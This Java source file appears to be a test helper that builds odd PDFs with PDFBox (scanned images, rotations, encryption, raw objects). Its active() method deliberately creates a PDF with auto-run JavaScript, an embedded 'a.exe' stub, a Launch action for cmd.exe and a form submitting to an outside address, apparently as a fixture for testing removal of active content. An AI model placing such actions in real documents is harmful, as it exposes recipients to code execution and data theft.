package vn.sohoa.imaging;

import java.awt.image.BufferedImage;
import java.awt.image.DataBufferByte;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.CCITTFactory;

/** Builds PDFs as they come from odd scanners and programs. */
public final class OddPdfs implements AutoCloseable {
    /** A small sheet, 4 × 6 inches, so that tests are quick. */
    public static final PDRectangle SHEET = new PDRectangle(288, 432);

    private final PDDocument document = new PDDocument();

    /** What a test writes into a page's content stream. */
    @FunctionalInterface
    public interface Drawing {
        void on(PDPageContentStream canvas) throws IOException;
    }

    /** A page whose picture fills it, under a matrix of the content stream ("a b c d e f"). */
    public OddPdfs picture(COSStream image, int rotate, String matrix) throws IOException {
        PDPage page = new PDPage(SHEET);
        page.setRotation(rotate);
        COSDictionary objects = new COSDictionary();
        objects.setItem(COSName.getPDFName("Im0"), image);
        COSDictionary resources = new COSDictionary();
        resources.setItem(COSName.XOBJECT, objects);
        page.setResources(new PDResources(resources));
        contents(page, "q " + matrix + " cm /Im0 Do Q");
        document.addPage(page);
        return this;
    }

    public OddPdfs picture(COSStream image) throws IOException {
        return picture(image, 0, "288 0 0 432 0 0");
    }

    public OddPdfs page(Drawing drawing) throws IOException {
        return page(new PDPage(SHEET), drawing);
    }

    public OddPdfs page(PDPage page, Drawing drawing) throws IOException {
        document.addPage(page);
        try (PDPageContentStream canvas =
                new PDPageContentStream(document, page, PDPageContentStream.AppendMode.APPEND, true, true)) {
            drawing.on(canvas);
        }
        return this;
    }

    public PDPage lastPage() {
        return document.getPage(document.getNumberOfPages() - 1);
    }

    public PDDocument document() {
        return document;
    }

    private void contents(PDPage page, String operators) throws IOException {
        page.setContents(new PDStream(
                document,
                new ByteArrayInputStream(operators.getBytes(StandardCharsets.US_ASCII)),
                COSName.FLATE_DECODE));
    }

    /** An image object with its bytes already encoded. */
    public COSStream image(byte[] encoded, COSName filter, int width, int height, int bits, COSName space)
            throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        try (OutputStream out = stream.createRawOutputStream()) {
            out.write(encoded);
        }
        stream.setItem(COSName.TYPE, COSName.XOBJECT);
        stream.setItem(COSName.SUBTYPE, COSName.IMAGE);
        stream.setItem(COSName.FILTER, filter);
        stream.setInt(COSName.WIDTH, width);
        stream.setInt(COSName.HEIGHT, height);
        stream.setInt(COSName.BITS_PER_COMPONENT, bits);
        stream.setItem(COSName.COLORSPACE, space);
        return stream;
    }

    public COSStream jpeg(BufferedImage image, COSName space) throws IOException {
        return image(OddPapers.jpeg(image), COSName.DCT_DECODE, image.getWidth(), image.getHeight(), 8, space);
    }

    /** Group 4; {@code dictionary} gets its decode parameters, {@code K} and the size. */
    public COSStream group4(BufferedImage bilevel) throws IOException {
        COSStream stream = image(
                g4(bilevel), COSName.CCITTFAX_DECODE, bilevel.getWidth(), bilevel.getHeight(), 1, COSName.DEVICEGRAY);
        COSDictionary parameters = new COSDictionary();
        parameters.setInt(COSName.K, -1);
        parameters.setInt(COSName.COLUMNS, bilevel.getWidth());
        parameters.setInt(COSName.ROWS, bilevel.getHeight());
        stream.setItem(COSName.DECODE_PARMS, parameters);
        return stream;
    }

    /** 8-bit samples, deflated. */
    public COSStream flate(BufferedImage gray) throws IOException {
        byte[] samples = ((DataBufferByte) gray.getRaster().getDataBuffer()).getData();
        return image(deflated(samples), COSName.FLATE_DECODE, gray.getWidth(), gray.getHeight(), 8, COSName.DEVICEGRAY);
    }

    public static byte[] deflated(byte[] samples) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bytes)) {
            out.write(samples);
        }
        return bytes.toByteArray();
    }

    /** Group 4 data of a picture of one bit a pixel, where white runs are white. */
    public static byte[] g4(BufferedImage bilevel) throws IOException {
        try (PDDocument scratch = new PDDocument();
                InputStream in = CCITTFactory.createFromImage(scratch, bilevel)
                        .getCOSObject()
                        .createRawInputStream()) {
            return in.readAllBytes();
        }
    }

    public static PDFont helvetica() {
        return new PDType1Font(Standard14Fonts.FontName.HELVETICA);
    }

    public OddPdfs encrypted(String user) throws IOException {
        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", user, new AccessPermission());
        policy.setEncryptionKeyLength(128);
        document.protect(policy);
        return this;
    }

    public byte[] bytes() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    @Override
    public void close() throws IOException {
        document.close();
    }

    /** A page with these words, and everything around it that a PDF can do harm with; nothing of it is packed. */
    public static byte[] active(String words) {
        String content = "BT /H 9 Tf 10 60 Td (" + words + ") Tj ET";
        return raw(
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Names 5 0 R"
                        + " /AA << /WC 7 0 R >> /AcroForm << /Fields [8 0 R] >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 432 108] >>",
                "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [8 0 R] /AA << /O 7 0 R >> /Resources << /Font"
                        + " << /H << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream",
                "<< /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >>"
                        + " /JavaScript << /Names [(j) 7 0 R] >> >>",
                "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                "<< /S /Launch /F (cmd.exe) /Next [7 0 R] >>",
                "<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [1 1 9 9]"
                        + " /A << /S /SubmitForm /F (http://192.0.2.1/) >> >>");
    }

    /** All of a PDF as text, its streams of objects unfolded. */
    public static String text(byte[] pdf) throws IOException {
        StringBuilder all = new StringBuilder(new String(pdf, StandardCharsets.ISO_8859_1));
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
            all.append(out.toString(StandardCharsets.ISO_8859_1));
        }
        return all.toString();
    }

    /** A PDF from the plain text of its objects, numbered from 1; the first one is the catalog. */
    public static byte[] raw(String... objects) {
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        StringBuilder xref = new StringBuilder();
        for (int i = 0; i < objects.length; i++) {
            xref.append(String.format("%010d 00000 n \n", pdf.length()));
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int start = pdf.length();
        pdf.append("xref\n0 ")
                .append(objects.length + 1)
                .append("\n0000000000 65535 f \n")
                .append(xref);
        pdf.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\nstartxref\n");
        pdf.append(start).append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    static COSBase number(long value) {
        return COSInteger.get(value);
    }
}
